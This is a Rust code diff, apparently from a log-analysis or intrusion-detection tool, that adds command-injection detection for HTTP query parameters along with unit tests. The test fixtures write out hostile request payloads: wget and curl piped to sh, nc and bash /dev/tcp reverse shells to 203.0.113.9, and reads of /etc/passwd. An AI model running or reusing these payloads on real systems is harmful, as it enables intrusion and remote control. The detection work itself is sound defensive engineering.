@@ -69,30 +69,160 @@ pub fn request_path(target: &[u8]) -> Vec<u8> {
     percent_decode(target.split(|b| *b == b'?').next().unwrap_or(target))
 }
 
-/// The first query value of a request that is a shell command (decoded): a download, a decode into a
-/// shell, a bash socket, or a command that is a shell or downloader (`shell_or_downloader`).
-pub fn request_command(target: &[u8], iocs: &Indicators) -> Option<Vec<u8>> {
-    let query = target.splitn(2, |b| *b == b'?').nth(1)?;
-    query
-        .split(|b| *b == b'&')
+/// A request's query values, decoded.
+fn query_values(target: &[u8]) -> impl Iterator<Item = Vec<u8>> + '_ {
+    target
+        .splitn(2, |b| *b == b'?')
+        .nth(1)
+        .into_iter()
+        .flat_map(|query| query.split(|b| *b == b'&'))
         .map(|kv| percent_decode(kv.splitn(2, |b| *b == b'=').nth(1).unwrap_or(kv)))
+}
+
+/// The first query value of a request that is a shell command (decoded), as a web shell takes one: it
+/// starts with a program and does a download, a decode into a shell, a bash socket, or runs a shell or
+/// downloader (`shell_or_downloader`). A value that starts with data and appends commands after a
+/// separator (`127.0.0.1;wget ...|sh`) is an injection into the application's own command
+/// ([`request_injection`]), not a web shell.
+pub fn request_command(target: &[u8], iocs: &Indicators) -> Option<Vec<u8>> {
+    query_values(target)
+        .filter(|v| !injection_shaped(v, iocs))
         .find(|v| {
             let line = crate::parse::shell_line::analyze(v);
             let shell = line.commands.iter().any(|c| {
                 std::str::from_utf8(c).is_ok_and(|c| iocs.contains(Kind::ShellOrDownloader, c))
             });
-            // A shell or downloader with an option or a path, or in a pipeline or sequence: a command,
-            // not a search for "bash tutorial".
+            // A shell or downloader given an option or a path: a command, not a search for "bash
+            // tutorial" nor "bash scripting; python | perl" (words in a sequence are still words).
             let invoked = crate::parse::words(v)
                 .skip(1)
-                .any(|w| w.starts_with(b"-") || w.contains(&b'/'))
-                || line.commands.len() > 1;
+                .any(|w| w.starts_with(b"-") || w.contains(&b'/'));
             line.download
                 || line.download_to_shell
                 || line.decode_to_shell
                 || line.dev_tcp
                 || (shell && invoked)
         })
+}
+
+/// Distinct discovery items (`recon_command` programs, `recon_file` paths) that make a command text ask
+/// who and where it runs: `id; uname -a; cat /etc/passwd` names three, a field list `name;id;email` one.
+/// Read for a network service's shell (`MT-RUN-036`) and a request's injected commands
+/// ([`request_injection`]).
+pub const RECON_MIN_ITEMS: usize = 2;
+
+/// Bytes that end one shell command and start another inside a parameter: what a command injection
+/// appends its commands after (`;`, `|`, `&`, `||`, `&&`, a backquote, `$(`, a newline).
+const SEPARATORS: &[u8] = b";|&`\n\r()";
+
+/// What a request injected into a parameter the application hands to a shell ([`request_injection`]).
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Injection {
+    /// The parameter's value, decoded.
+    pub value: Vec<u8>,
+    /// What its injected commands do, as named for evidence: discovery items (`id`, `/etc/passwd`),
+    /// programs of a kit's first moves (`pkill`, `nc`), `download`.
+    pub found: Vec<String>,
+}
+
+/// Whether a command word (a program's basename) is a program a command injection or a web shell runs:
+/// a shell, interpreter or downloader, a network-capable or host-changing tool, a discovery command.
+fn is_command_word(word: &[u8], iocs: &Indicators) -> bool {
+    let name = String::from_utf8_lossy(crate::parse::basename(word));
+    crate::parse::shell_line::is_interpreter(name.as_bytes())
+        || [
+            Kind::ShellOrDownloader,
+            Kind::Interpreter,
+            Kind::ReconCommand,
+            Kind::NetworkTool,
+            Kind::HostChangingTool,
+            Kind::ProxyTool,
+            Kind::SshClient,
+        ]
+        .into_iter()
+        .any(|k| iocs.contains(k, &name))
+}
+
+/// A value cut at its [`SEPARATORS`]: its pieces, trimmed, the first kept even when empty (a value
+/// that starts with a separator appends to the application's own text).
+fn pieces(value: &[u8]) -> Vec<&[u8]> {
+    let mut out: Vec<&[u8]> = value
+        .split(|b| SEPARATORS.contains(b))
+        .map(<[u8]>::trim_ascii)
+        .collect();
+    let first = out.first().copied().unwrap_or_default();
+    out.retain(|p| !p.is_empty());
+    if first.is_empty() {
+        out.insert(0, first);
+    }
+    out
+}
+
+/// Whether a value is data followed by commands: it holds a separator, and what comes before the first
+/// is no program of [`is_command_word`] (an address, a file name, a number, or nothing at all).
+fn injection_shaped(value: &[u8], iocs: &Indicators) -> bool {
+    let p = pieces(value);
+    p.len() > 1
+        && p.first().is_some_and(|first| {
+            crate::parse::words(first)
+                .next()
+                .is_none_or(|w| !is_command_word(w, iocs))
+        })
+}
+
+/// The first query value of a request that injects shell commands into what the application runs with
+/// it (`?host=127.0.0.1;id;uname -a`, `?file=a.jpg;wget http://...|sh`): data, a separator, then
+/// commands that ask who and where they run ([`RECON_MIN_ITEMS`] distinct discovery items or more), or
+/// that download, open a bash socket, or run a shell, interpreter, downloader, network-capable or
+/// host-changing program with an option or a path (`;pkill -x kdevtmpfsi`, `;nc -e /bin/sh ...`). A
+/// field list (`name;id;email`), a search (`tom & jerry`, `bash scripting; python`) or a date range is
+/// none: one discovery word, or a program named with nothing to run.
+pub fn request_injection(target: &[u8], iocs: &Indicators) -> Option<Injection> {
+    query_values(target).find_map(|value| {
+        if !injection_shaped(&value, iocs) {
+            return None;
+        }
+        let mut recon: Vec<String> = Vec::new();
+        let mut moves: Vec<String> = Vec::new();
+        for piece in pieces(&value).into_iter().skip(1) {
+            let mut words = crate::parse::words(piece);
+            let Some(first) = words.next() else {
+                continue;
+            };
+            let rest: Vec<&[u8]> = words.collect();
+            let name = String::from_utf8_lossy(crate::parse::basename(first)).into_owned();
+            for w in std::iter::once(first).chain(rest.iter().copied()) {
+                let w = String::from_utf8_lossy(w).into_owned();
+                if iocs.contains(Kind::ReconFile, &w) && !recon.contains(&w) {
+                    recon.push(w);
+                }
+            }
+            if iocs.contains(Kind::ReconCommand, &name) {
+                if !recon.contains(&name) {
+                    recon.push(name);
+                }
+            } else if is_command_word(first, iocs)
+                && rest
+                    .iter()
+                    .any(|w| w.starts_with(b"-") || w.contains(&b'/'))
+                && !moves.contains(&name)
+            {
+                moves.push(name);
+            }
+        }
+        let line = crate::parse::shell_line::analyze(&value);
+        if line.download || line.dev_tcp || line.decode_to_shell {
+            moves.push("download".into());
+        }
+        if recon.len() < RECON_MIN_ITEMS && moves.is_empty() {
+            return None;
+        }
+        recon.extend(moves);
+        Some(Injection {
+            value,
+            found: recon,
+        })
+    })
 }
 
 /// JVM system properties naming the base or home directory an application server writes its `logs/`
@@ -460,9 +590,63 @@ admin:x:1000:1000:Admin:/home/admin:/bin/bash\n";
             super::request_command(b"/search?q=shell+scripting+tutorial&page=2", &iocs).is_none()
         );
         assert!(super::request_command(b"/products/7", &iocs).is_none());
+        // Command words in a search, even in a sequence or a pipeline, are words.
+        assert!(super::request_command(
+            b"/wp-json/wp/v2/posts?search=bash+scripting%3B+python+%7C+perl",
+            &iocs
+        )
+        .is_none());
+        // Data, then commands: an injection into the page's own command, not a web shell.
+        assert!(super::request_command(
+            b"/status.php?host=127.0.0.1%3Bwget+http://x.example/a%7Csh",
+            &iocs
+        )
+        .is_none());
         assert_eq!(
             super::request_path(b"/a%20b/x.php?c=id"),
             b"/a b/x.php".to_vec()
         );
+    }
+
+    /// Command injection in a request parameter (the lead's session-6 task for detect3): data, a
+    /// separator, then discovery or a kit's first moves. Look-alikes — field lists, searches with
+    /// command words, encoded punctuation, date ranges, a web shell's own command — are none.
+    #[test]
+    fn command_injection_in_a_parameter_is_data_then_commands() {
+        let iocs = crate::indicators::Indicators::builtin();
+        let found = |t: &[u8]| super::request_injection(t, &iocs).map(|i| i.found);
+        assert_eq!(
+            found(b"/status.php?host=127.0.0.1%3Bid%3Buname%20-a%3Bcat%20/etc/passwd%3Bwhoami%3Bsleep%20900"),
+            Some(vec![
+                "id".to_owned(),
+                "uname".into(),
+                "/etc/passwd".into(),
+                "whoami".into()
+            ])
+        );
+        for attack in [
+            &b"/status.php?host=127.0.0.1;wget+http://x.example/a|sh"[..],
+            b"/theme.php?dir=/var/www/shop/theme%3Bpkill%20-x%20kdevtmpfsi%3Bchattr%20-i%20/etc/ld.so.preload",
+            b"/img.php?f=a.jpg%3Bnc%20-e%20/bin/sh%20203.0.113.9%204444",
+            b"/ping.php?ip=%3Bid%3Bhostname",
+            b"/ping.php?ip=1.1.1.1%60id%60%24(uname%20-a)",
+            b"/x.cgi?a=1&name=x%7C%7Cbash%20-i%20%3E%26%20/dev/tcp/203.0.113.9/4444%200%3E%261",
+        ] {
+            assert!(found(attack).is_some(), "{}", String::from_utf8_lossy(attack));
+        }
+        for benign in [
+            &b"/api/users?fields=name;id;email"[..],
+            b"/search?q=tom+%26+jerry",
+            b"/search?q=linux+bash+scripting%3B+python",
+            b"/search?q=how+to+use+uname+-a+and+id",
+            b"/search?q=who+is+last%3Bhostname",
+            b"/report?range=2025-01-01%7C2025-02-01",
+            b"/page?title=Caf%C3%A9+%26+Bar%3B+Grill",
+            b"/mgmt/cmd.jsp?c=curl%20-fsSL%20http%3A%2F%2F203.0.113.88%2Ft.sh%7Csh",
+            b"/uploads/a.phtml?c=id",
+            b"/products/7",
+        ] {
+            assert_eq!(found(benign), None, "{}", String::from_utf8_lossy(benign));
+        }
     }
 }
